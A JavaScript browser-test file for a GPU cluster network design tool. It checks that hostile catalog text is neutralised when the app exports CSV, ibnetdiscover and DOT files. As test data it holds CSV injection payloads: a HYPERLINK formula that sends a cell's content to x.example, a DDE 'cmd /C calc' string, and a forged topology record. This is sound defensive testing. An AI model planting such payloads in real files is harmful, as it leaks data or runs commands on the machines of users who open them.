import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { Graphviz } from '@hpcc-js/wasm-graphviz';
import { parse as parseCsv } from 'csv-parse/sync';
import { gpus, runAndWait } from './tests.mjs';

/** Browser tests of export safety: hostile catalog text reaches the app's downloads neutralised. */
export const tests = [];
const test = (name, fn, timeoutMs = 180_000) => tests.push({ name, fn, timeoutMs });

const FORMULA_START = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://x.example/?"&A2,"Click")';

/** Makes the page download exports as files (no File System Access API). */
const withoutSavePicker = (context) =>
  context.addInitScript(() => {
    for (const o of [window, Object.getPrototypeOf(window), globalThis.Window?.prototype]) {
      try { if (o) delete o.showSaveFilePicker; } catch { /* not configurable */ }
    }
    if (typeof window.showSaveFilePicker === 'function') Object.defineProperty(window, 'showSaveFilePicker', { value: undefined, configurable: true });
  });

async function download(page, button) {
  const d = page.waitForEvent('download', { timeout: 60_000 });
  await button.click();
  return readFile(await (await d).path(), 'utf8');
}

const formulaCells = (csv) => parseCsv(csv).flat().filter((cell) => FORMULA_START.test(cell));

test('a catalog whose part text is a formula, a forged record or a trailing backslash exports safely from the app', async ({ page, context, open }) => {
  await withoutSavePicker(context);
  await open('/');
  await gpus(page).waitFor();
  await page.getByRole('tab', { name: 'Catalog' }).click();
  const catalog = JSON.parse(await download(page, page.getByRole('button', { name: 'Export catalog JSON' })));
  // Every switch model becomes a formula that also carries a forged ibnetdiscover record and ends in a backslash.
  for (const s of catalog.switches) s.model = `${HYPERLINK} ${s.model}\nSwitch\t36 "S-00000000000000ff"\t\t# "forged-switch" \\`;
  for (const p of catalog.transceivers) p.model = `-2+3 ${p.model}`;
  for (const p of catalog.cables) p.model = `+cmd|' /C calc'!A0 ${p.model}`;
  for (const o of catalog.offers) o.vendor = '@SUM(1+1)';
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Import catalog JSON' }).click();
  await (await chooser).setFiles({ name: 'hostile.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(catalog)) });
  await page.getByText('Catalog loaded from hostile.json.').waitFor();

  const priceList = await download(page, page.getByRole('button', { name: 'Export price list CSV' }));
  assert.deepEqual(formulaCells(priceList), []);
  assert.ok(parseCsv(priceList, { columns: true }).every((r) => r.vendor === "'@SUM(1+1)"));

  await gpus(page).fill('64');
  await page.getByRole('checkbox', { name: 'Ethernet (RoCE)' }).uncheck(); // an InfiniBand design, for the ibnetdiscover file
  await page.getByRole('tab', { name: 'Results' }).click();
  await runAndWait(page);
  await page.getByRole('tab', { name: 'Design' }).click();
  const exports = page.getByRole('region', { name: 'Exports' });
  await exports.waitFor();
  const button = (name) => exports.getByRole('button', { name, exact: true });

  const bom = await download(page, button('BOM CSV'));
  assert.deepEqual(formulaCells(bom), []);
  const bomRows = parseCsv(bom, { columns: true });
  assert.ok(bomRows.some((r) => r.category === 'switch' && r.model.startsWith(`'${HYPERLINK}`)));
  // Item rows carry the parts; the subtotal and total rows after them have no vendor.
  const items = bomRows.filter((r) => r.row === 'item');
  assert.ok(items.length > 0 && items.every((r) => r.vendor === "'@SUM(1+1)" && Number(r.extendedPrice) > 0));

  const cables = await download(page, button('Cable schedule CSV'));
  assert.deepEqual(formulaCells(cables), []);

  const topo = await download(page, button('ibnetdiscover'));
  assert.ok(!/^Switch\t36 "S-00000000000000ff"/m.test(topo), 'no forged switch record');
  assert.ok(topo.split('\n').every((l) => l === '' || /^(#|vendid=|devid=|sysimgguid=|switchguid=|caguid=|Switch\t\d+ "S-[0-9a-f]{16}"\t\t# "[^"]+" [^"]+ enhanced port 0 lid 0 lmc 0$|Ca\t|\[\d+\])/.test(l)), 'every line is a record of the format');

  const dot = await download(page, button('DOT'));
  // Graphviz compiled to WebAssembly: the browser tests need no system `dot` either.
  const svg = (await Graphviz.load()).layout(dot, 'svg', 'dot'); // throws when Graphviz cannot read it
  assert.ok(svg.includes('x.example'), 'the model text is drawn, not cut off');
});
